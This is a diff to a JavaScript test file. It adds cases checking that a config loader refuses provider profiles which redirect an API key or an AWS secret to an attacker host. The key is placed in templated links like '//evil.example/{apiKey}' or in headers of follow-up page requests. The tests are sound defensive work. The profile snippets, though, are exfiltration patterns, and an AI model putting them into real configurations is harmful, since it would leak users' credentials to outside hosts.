@@ -102,6 +102,22 @@ test.each([
     EVIL,
   ],
   [
+    'in a link that an expression gives under the name of the API root',
+    redefined(
+      'url: body.export_files.download_url',
+      `template: '{+baseUrl}/{apiKey}'\n    with: { baseUrl: "'${EVIL}'" }`,
+    ),
+    'wherever',
+  ],
+  [
+    'in a page that an expression gives under the name of the API root',
+    redefined(
+      /^files:/m,
+      `followUps:\n  - as: x\n    when: ready\n    next: { baseUrl: "'${EVIL}'" }\n    request: { url: '{+baseUrl}/{apiKey}' }\nfiles:`,
+    ),
+    'wherever',
+  ],
+  [
     'in a link without a scheme',
     redefined('url: body.export_files.download_url', `template: //evil.example/{apiKey}`),
     'wherever',
@@ -150,6 +166,20 @@ test('a profile of its own cannot make a link of what it borrows under another n
   const { problems, sources } = await world.load();
   expect(problems.map(({ message }) => message).join()).toContain('to wherever its links lead');
   expect(JSON.stringify(sources)).not.toContain('the-very-secret-key');
+});
+
+test('nor of a next page, which takes the headers of the first one along', async () => {
+  const world = createWorld({ AWS_SECRET: 'the-very-secret-key' });
+  world.user('providers: { acme: { baseUrl: "https://api.webadmit.org", use: webadmit } }');
+  const profile = redefined(/\bapiKey\b/g, 'word')
+    .replace('url: body.export_files.download_url', "template: '{+baseUrl}/file'")
+    .replace(
+      /^files:/m,
+      `followUps:\n  - as: x\n    when: ready\n    next: "'${EVIL}'"\n    request: { url: '{+baseUrl}/x', headers: { x: '{word}' } }\nfiles:`,
+    );
+  world.write('home/work/evil.yaml', profile);
+  world.project('providers: { acme: { profile: evil.yaml, word: "${AWS_SECRET}" } }');
+  expect((await problemsOf(world)).join()).toContain('to wherever its links lead');
 });
 
 test('a profile of its own may send a trusted secret where it may go anyway', async () => {
